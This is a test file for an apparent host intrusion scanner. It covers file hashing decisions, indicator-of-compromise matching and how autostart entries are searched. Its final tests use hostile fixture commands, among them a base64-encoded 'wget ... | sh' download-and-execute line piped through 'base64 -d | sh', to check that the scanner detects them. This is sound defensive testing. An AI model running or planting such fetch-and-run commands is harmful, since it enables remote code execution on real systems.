import { describe, expect, test } from 'bun:test';
import { processFact } from '../../test/process-fact.ts';
import { type Recorded, RecordedTarget } from '../../test/recorded-target.ts';
import { ownedBy, text } from '../detect/facts.fixture.ts';
import { entryFact, fileFact, integrityFact } from '../detect/persistence/entry.fixture.ts';
import { emptyConfig } from '../model/config.ts';
import type { Fact } from '../model/fact.ts';
import { makeContext } from './context.ts';
import { gatherContents } from './file-contents.ts';
import { parseIndicator } from './indicator.ts';
import type { ScanOptions } from './options.ts';
import { redactor } from './redact.ts';
import { sightCheap } from './sightings.ts';

const sha256 = (content: string): string => new Bun.CryptoHasher('sha256').update(content).digest('hex');
const md5 = (content: string): string => new Bun.CryptoHasher('md5').update(content).digest('hex');

function gathered(files: Record<string, Recorded>, given: readonly Fact[], seen: readonly string[] = []) {
  const options: ScanOptions = {
    interval: 0,
    active: false,
    thorough: false,
    keepSecrets: false,
    seen: seen.map(parseIndicator),
    language: 'en',
    config: emptyConfig,
  };
  const context = makeContext(new RecordedTarget({ files }), options, redactor(false));
  context.facts.addAll(given);
  gatherContents(context);
  return { context, contents: context.facts.of('file-content') };
}

const program = (path: string, size: number, owner = ''): readonly Fact[] => [
  fileFact(path, { size }),
  ownedBy(path, owner),
];
const one = 'a program'.padEnd(100, '.');
const two = 'another one'.padEnd(100, '.');

describe('which files are read', () => {
  test('hashed are those of a size that occurs twice; what is started is searched all the same', () => {
    const files = { '/opt/a': { content: one }, '/opt/b': { content: two }, '/opt/c': { content: 'c' } };
    const { contents } = gathered(files, [
      ...['/opt/a', '/opt/b', '/opt/c'].map((path) => entryFact(path)),
      ...program('/opt/a', 100),
      ...program('/opt/b', 100),
      ...program('/opt/c', 1),
    ]);
    expect(contents.map(({ path, sha256: hash }) => [String(path), hash])).toEqual([
      ['/opt/c', ''],
      ['/opt/a', sha256(one)],
      ['/opt/b', sha256(two)],
    ]);
  });

  test('a file that only lies there is not searched, and hashed where another has its size', () => {
    const at = '/tmp/x';
    const lying = entryFact('', { at, mechanism: 'dropped-program', language: 'argv', target: text(at) });
    const files = { [at]: { content: one }, '/opt/a': { content: one } };
    const given = [lying, ...program(at, 100)];
    expect(gathered(files, given).contents).toEqual([]);
    const both = gathered(files, [...given, entryFact('/opt/a'), ...program('/opt/a', 100)]).contents;
    expect(both.map(({ sha256: hash }) => hash)).toEqual([sha256(one), sha256(one)]);
  });

  test('what a package brought, a container keeps, and short scripts are not', () => {
    const paths = ['/usr/bin/a', '/var/lib/docker/overlay2/x/diff/a', '/opt/s'];
    const files = Object.fromEntries(paths.map((path) => [path, { content: one }]));
    const { context, contents } = gathered(files, [
      ...paths.map((path) => entryFact(path)),
      ...program('/usr/bin/a', 100, 'coreutils'),
      ...program('/var/lib/docker/overlay2/x/diff/a', 100),
      fileFact('/opt/s', { size: 20, format: 'script' }),
      ownedBy('/opt/s', ''),
    ]);
    expect(contents).toEqual([]);
    expect(context.log.listed).toEqual([]);
  });

  test('what a package brought and somebody replaced is', () => {
    const { contents } = gathered({ '/usr/bin/a': { content: one } }, [
      entryFact('/usr/bin/a'),
      ...program('/usr/bin/a', 100, 'coreutils'),
      integrityFact('/usr/bin/a', 'changed'),
    ]);
    expect(contents.length).toBe(1);
  });

  test('a process whose program has the size of one is read where it runs, its own file once', () => {
    const exe = { deleted: true, memfd: false, inode: 5, device: 1, size: 100 };
    const files = { '/opt/a': { content: one }, '/proc/7/exe': { content: one } };
    const given = [entryFact('/opt/a'), ...program('/opt/a', 100)];
    const gone = processFact(7, { exe: { ...exe, path: text('/tmp/x') } });
    const same = processFact(7, { exe: { ...exe, deleted: false, path: text('/opt/a') } });
    const other = processFact(7, { exe: { ...exe, size: 99, path: text('/tmp/x') } });
    const hashes = (process: Fact): readonly string[] =>
      gathered(files, [...given, process]).contents.map(
        ({ source, sha256: hash }) => `${source.source} ${hash}`,
      );
    expect(hashes(gone)).toEqual([`/opt/a ${sha256(one)}`, `/proc/7/exe ${sha256(one)}`]);
    expect(hashes(same)).toEqual(['/opt/a ']);
    expect(hashes(other)).toEqual(['/opt/a ']);
  });
});

describe('the hash of the alert', () => {
  const files = { '/opt/a': { content: one } };
  const given = [entryFact('/opt/a'), ...program('/opt/a', 100)];

  for (const hash of [sha256(one), md5(one).toUpperCase()]) {
    test(`${hash.length} digits: the file that has it is told`, () => {
      const { context } = gathered(files, given, [hash]);
      const found = sightCheap([parseIndicator(hash)], context.facts, new Set());
      expect(found).toMatchObject([{ type: 'hash', place: 'file', source: { source: '/opt/a' } }]);
    });
  }

  test('another is in no file', () => {
    const { context } = gathered(files, given, [sha256(two)]);
    expect(sightCheap([parseIndicator(sha256(two))], context.facts, new Set())).toEqual([]);
  });
});

describe('an indicator in what starts by itself', () => {
  const seen = (command: string, indicator: string) =>
    sightCheap([parseIndicator(indicator)], gathered({}, [entryFact(command)]).context.facts, new Set());

  test('is told with its line, also where it was encoded', () => {
    expect(seen('curl http://192.0.2.9/x', '192.0.2.9:80')).toMatchObject([
      { place: 'entry', source: { source: '/etc/cron.d/job', line: 3 } },
    ]);
    const encoded = Buffer.from('wget -qO- http://192.0.2.9/s | sh').toString('base64');
    expect(seen(`echo ${encoded} | base64 -d | sh`, '192.0.2.9').length).toBe(1);
  });

  test('a longer address is another', () => {
    expect(seen('curl http://192.0.2.90/x', '192.0.2.9')).toEqual([]);
  });
});
